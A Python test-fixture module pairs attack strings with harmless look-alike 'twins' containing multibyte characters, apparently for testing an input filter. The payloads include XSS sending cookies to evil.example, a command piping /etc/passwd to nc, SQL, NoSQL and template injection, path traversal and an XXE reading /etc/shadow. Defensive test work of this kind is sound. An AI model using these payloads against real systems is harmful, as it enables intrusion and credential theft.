"""What is sent: an attack of each category, and beside it a message that looks much like it and
does no harm.

Each has a character of two and one of four bytes, so that there is something to cut in two.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """An attack and its benign twin."""

    category: str
    text: str
    twin: str


ATTACKS = (
    Attack(
        "XSS",
        "Grüße 👋 <script>alert(document.cookie)</script>",
        'Grüße 👋 I <3 that script & its "score": 5 > 4 (alert the others)',
    ),
    Attack(
        "XSS",
        "Grüße 👋 <img src=x onerror=fetch('//evil.example/'+document.cookie)>",
        "Grüße 👋 the img tag has a src, and onerror is a bad error's name",
    ),
    Attack(
        "SQL injection",
        "Grüße 👋' UNION SELECT username, password FROM users -- ",
        "Grüße 👋 O'Brien's union will select a chair from its members -- or not",
    ),
    Attack(
        "SQL injection",
        "Grüße 👋' OR '1'='1' -- ",
        "Grüße 👋 is it 'one' or 'two'? 1 = 1, that is for sure -- so far",
    ),
    Attack(
        "command injection",
        "Grüße 👋; cat /etc/passwd | nc 192.0.2.7 4444",
        "Grüße 👋; the cat sleeps | the net is up & all is well",
    ),
    Attack(
        "path traversal",
        "/grüße/👋/../../../../../../etc/passwd",
        "/grüße/👋/see README.md, docs/passwords/policy.txt and so on...",
    ),
    Attack(
        "NoSQL injection",
        '{"user": "Grüße 👋", "password": {"$ne": null}}',
        '{"user": "Grüße 👋", "price": {"currency": "$", "net": null}}',
    ),
    Attack(
        "template injection",
        "Grüße 👋 {{''.__class__.__mro__[1].__subclasses__()}}",
        "Grüße 👋 {curly} braces {{ and }} are fun; 7 * 7 = 49",
    ),
    Attack(
        "XXE",
        '<!DOCTYPE grüße [<!ENTITY x SYSTEM "file:///etc/shadow">]><a>👋 &x;</a>',
        '<note lang="de" to="everybody in the system">Grüße 👋 &amp; bis bald</note>',
    ),
)

CATEGORIES = tuple(dict.fromkeys(attack.category for attack in ATTACKS))
